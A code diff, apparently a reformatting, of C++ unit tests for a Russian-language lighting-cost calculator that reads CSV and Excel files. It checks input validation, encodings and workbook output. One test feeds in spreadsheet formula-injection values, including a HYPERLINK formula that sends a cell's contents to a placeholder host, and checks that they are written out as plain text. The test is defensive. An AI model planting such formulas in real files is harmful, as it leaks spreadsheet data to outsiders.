@@ -35,8 +35,7 @@ TEST_F(OfficeFiles, RowsWithTheWrongNumberOfCellsAreRejected) {
                              "разделителе ',' число с десятичной запятой берётся в кавычки"),
               std::string::npos)
         << comma.Err;
-    const Outcome cut =
-        Calc(File("cut.csv", "Address;Tariff;EntranceCount\na;1,5;4\nb;1,5\n"));
+    const Outcome cut = Calc(File("cut.csv", "Address;Tariff;EntranceCount\na;1,5;4\nb;1,5\n"));
     EXPECT_EQ(cut.Status, 1);
     EXPECT_NE(cut.Err.find("cut.csv:3: ячеек в строке: 2, столбцов в заголовке: 3\n"),
               std::string::npos)
@@ -73,30 +72,44 @@ TEST_F(OfficeFiles, QuotedDecimalCommasAndThousandsAreRead) {
 }
 
 TEST_F(OfficeFiles, ValuesNoHouseCanHaveAreRejectedWithTheirRange) {
-    const Outcome run = Calc(File(
-        "bad.csv",
-        "Address;HoldTimeLanding;ExistingHoursLanding;PlannedHoursBetween;ExistingLampLife;"
-        "BlockPrice;PlannedPowerLanding;Tariff;EntranceCount;HasLift\n"
-        "a;-1;48;-13;-6;-0,5;-40;0;abc;2\n"
-        "b;60;13;24;6;1e308;40;1,38;5;1\n"
-        "c;60;13;24;6;350;1e308;1,38;5;1\n"
-        "d;0;0;0;0;0;0;0,01;1;0\n"));
+    const Outcome run = Calc(
+        File("bad.csv",
+             "Address;HoldTimeLanding;ExistingHoursLanding;PlannedHoursBetween;ExistingLampLife;"
+             "BlockPrice;PlannedPowerLanding;Tariff;EntranceCount;HasLift\n"
+             "a;-1;48;-13;-6;-0,5;-40;0;abc;2\n"
+             "b;60;13;24;6;1e308;40;1,38;5;1\n"
+             "c;60;13;24;6;350;1e308;1,38;5;1\n"
+             "d;0;0;0;0;0;0;0,01;1;0\n"));
     EXPECT_EQ(run.Status, 1);
     const std::string range = " — вне допустимых пределов ";
     EXPECT_EQ(run.Err, "bad.csv:2: EntranceCount: «abc» — не число\n"
                        "bad.csv:2: HasLift: «2» — ожидается 1 (да) или 0 (нет)\n"
-                       "bad.csv:2: Tariff: 0" + range + "(больше 0)\n"
-                       "bad.csv:2: ExistingLampLife: -6" + range + "(не меньше 0)\n"
-                       "bad.csv:2: ExistingHoursLanding: 48" + range + "(0..24)\n"
-                       "bad.csv:2: PlannedPowerLanding: -40" + range + "(не меньше 0)\n"
-                       "bad.csv:2: PlannedHoursBetween: -13" + range + "(0..24)\n"
-                       "bad.csv:2: BlockPrice: -0,5" + range + "(не меньше 0)\n"
-                       "bad.csv:2: HoldTimeLanding: -1" + range + "(не меньше 0)\n"
-                       "bad.csv:3: расчёт даёт бесконечные или неопределённые значения: цены, "
-                       "мощности или сроки службы слишком велики\n"
-                       "bad.csv:4: расчёт даёт бесконечные или неопределённые значения: цены, "
-                       "мощности или сроки службы слишком велики\n"
-                       "посчитано домов: 1, отклонено строк: 3\n");
+                       "bad.csv:2: Tariff: 0" +
+                           range +
+                           "(больше 0)\n"
+                           "bad.csv:2: ExistingLampLife: -6" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:2: ExistingHoursLanding: 48" +
+                           range +
+                           "(0..24)\n"
+                           "bad.csv:2: PlannedPowerLanding: -40" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:2: PlannedHoursBetween: -13" +
+                           range +
+                           "(0..24)\n"
+                           "bad.csv:2: BlockPrice: -0,5" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:2: HoldTimeLanding: -1" +
+                           range +
+                           "(не меньше 0)\n"
+                           "bad.csv:3: расчёт даёт бесконечные или неопределённые значения: цены, "
+                           "мощности или сроки службы слишком велики\n"
+                           "bad.csv:4: расчёт даёт бесконечные или неопределённые значения: цены, "
+                           "мощности или сроки службы слишком велики\n"
+                           "посчитано домов: 1, отклонено строк: 3\n");
     EXPECT_EQ(run.Out.find("INF"), std::string::npos);
     EXPECT_EQ(run.Out.find("NAN"), std::string::npos);
     EXPECT_EQ(Row(run, 4).size(), 25u); // the house of zeros is calculated
@@ -129,8 +142,8 @@ TEST_F(OfficeFiles, AnInputIsNeverTheOutput) {
 
 TEST_F(OfficeFiles, FailedWritesOfHelpVersionAndTemplateFail) {
     for (const std::string option : {"--help", "--version", "--template"}) {
-        const Outcome full = Shell(std::string("'") + VIRASVET_CALC + "' " + option +
-                                   " >/dev/full 2>err.txt");
+        const Outcome full =
+            Shell(std::string("'") + VIRASVET_CALC + "' " + option + " >/dev/full 2>err.txt");
         EXPECT_EQ(full.Status, 2) << option;
         EXPECT_NE(full.Err.find("не удаётся записать результат"), std::string::npos) << full.Err;
     }
@@ -138,12 +151,12 @@ TEST_F(OfficeFiles, FailedWritesOfHelpVersionAndTemplateFail) {
 
 TEST_F(OfficeFiles, TextThatASpreadsheetTakesForAFormulaIsWrittenAsText) {
     const std::string hyperlink = "=HYPERLINK(\"\"http://x/?leak=\"\"&A1;\"\"клик\"\")";
-    const Outcome run = Calc(
-        "--seed 1 " + File("=2+2.csv", "Address;Note;Code\n"
-                                       "=1+2;+cmd;-5\n\"" +
-                                           hyperlink + "\";@SUM(A1);-1,5e3\n"
-                                                       "\"\tx\";-x;+7\n"
-                                                       "ул. Мира;=;\n"));
+    const Outcome run = Calc("--seed 1 " + File("=2+2.csv", "Address;Note;Code\n"
+                                                            "=1+2;+cmd;-5\n\"" +
+                                                                hyperlink +
+                                                                "\";@SUM(A1);-1,5e3\n"
+                                                                "\"\tx\";-x;+7\n"
+                                                                "ул. Мира;=;\n"));
     ASSERT_EQ(run.Status, 0) << run.Err;
     const std::vector<std::string> lines = Lines(run.Out);
     ASSERT_EQ(lines.size(), 5u);
@@ -168,8 +181,7 @@ TEST_F(OfficeFiles, ColumnsThatAreNoFieldAreCarried) {
     for (const std::string name : {"Adress", "Entrance Cont", "TARIF_", "Floor_Cnt"}) {
         const Outcome typo = Calc(File("t.csv", name + ";Address\n1;x\n"));
         EXPECT_EQ(typo.Status, 2) << name;
-        EXPECT_NE(typo.Err.find("нет такого столбца; может быть, "), std::string::npos)
-            << typo.Err;
+        EXPECT_NE(typo.Err.find("нет такого столбца; может быть, "), std::string::npos) << typo.Err;
     }
     const Outcome spaced = Calc(File("s.csv", "entrance cont;Address\n1;x\n"));
     EXPECT_NE(spaced.Err.find("s.csv:1: entrance cont: нет такого столбца; может быть, "
@@ -189,7 +201,9 @@ TEST_F(OfficeFiles, WindowsCyrillicIsReadAndResultsCarryAByteOrderMark) {
     ASSERT_EQ(run.Status, 0) << run.Err;
     EXPECT_EQ(run.Err, "w.csv: текст не в UTF-8, прочитан как Windows-1251 (кодировку задаёт "
                        "--encoding)\n");
-    EXPECT_TRUE(run.Out.starts_with("\xEF\xBB\xBF" "File;Line;Address;")) << run.Out;
+    EXPECT_TRUE(run.Out.starts_with("\xEF\xBB\xBF"
+                                    "File;Line;Address;"))
+        << run.Out;
     EXPECT_TRUE(Lines(run.Out)[1].starts_with("w.csv;2;Гагарина 5;1;")) << run.Out;
     EXPECT_EQ(Calc("--encoding utf-8 w.csv").Status, 2);
     EXPECT_EQ(Calc("--encoding cp866 w.csv").Status, 2);
@@ -199,7 +213,9 @@ TEST_F(OfficeFiles, WindowsCyrillicIsReadAndResultsCarryAByteOrderMark) {
     ASSERT_EQ(forced.Status, 0);
     EXPECT_TRUE(Lines(forced.Out)[1].starts_with("u.csv,2,РњРёСЂ,")) << forced.Out;
     EXPECT_TRUE(Lines(forced.Out)[0].starts_with("File,")); // no byte-order mark
-    EXPECT_TRUE(Calc("--template").Out.starts_with("\xEF\xBB\xBF" "Address;"));
+    EXPECT_TRUE(Calc("--template")
+                    .Out.starts_with("\xEF\xBB\xBF"
+                                     "Address;"));
     EXPECT_TRUE(Calc("--template --no-bom").Out.starts_with("Address;"));
 }
 
@@ -273,8 +289,8 @@ TEST_F(OfficeFiles, WorkbooksAreReadAndWritten) {
     // Results as a workbook: the same rows, numbers as numbers, text as text, a frozen header.
     const Outcome written = Calc("--seed 7 -o results.xlsx houses.xlsx");
     ASSERT_EQ(written.Status, 0) << written.Err;
-    const std::string results = WorkbookPart((dir_ / "results.xlsx").string(),
-                                             "xl/worksheets/sheet1.xml");
+    const std::string results =
+        WorkbookPart((dir_ / "results.xlsx").string(), "xl/worksheets/sheet1.xml");
     EXPECT_NE(results.find("<pane ySplit=\"1\""), std::string::npos);
     EXPECT_NE(results.find("<c r=\"K2\"><v>121500</v></c>"), std::string::npos) << results;
     EXPECT_NE(results.find("<c r=\"G3\"><v>2.3</v></c>"), std::string::npos); // payback months
@@ -296,9 +312,9 @@ TEST_F(OfficeFiles, MemoryStaysBoundedWhateverTheFileSize) {
     GTEST_SKIP() << "the sanitizers' shadow memory is no measure of the program's";
 #else
     // 400,000 rows from a pipe: the program held about a kilobyte a row before it streamed.
-    const Outcome run = Shell("(echo 'Address;Tariff'; yes 'x;0' | head -n 400000) | '" +
-                              std::string(VIRASVET_CALC) +
-                              "' --max-errors 0 --jobs 2 - >/dev/null 2>err.txt");
+    const Outcome run =
+        Shell("(echo 'Address;Tariff'; yes 'x;0' | head -n 400000) | '" +
+              std::string(VIRASVET_CALC) + "' --max-errors 0 --jobs 2 - >/dev/null 2>err.txt");
     EXPECT_EQ(run.Status, 1);
     EXPECT_NE(run.Err.find("посчитано домов: 0, отклонено строк: 400000\n"), std::string::npos)
         << run.Err;
